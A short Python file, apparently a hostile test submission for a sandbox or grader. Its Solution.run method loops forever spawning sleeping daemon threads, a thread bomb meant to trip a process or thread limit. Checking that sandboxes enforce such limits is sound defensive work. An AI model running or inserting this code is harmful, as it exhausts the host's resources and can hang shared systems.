"""processes: started more than"""

import threading
import time


class Solution:
    def run(self, goal, robot):
        while True:
            try:
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except RuntimeError:
                time.sleep(0.1)
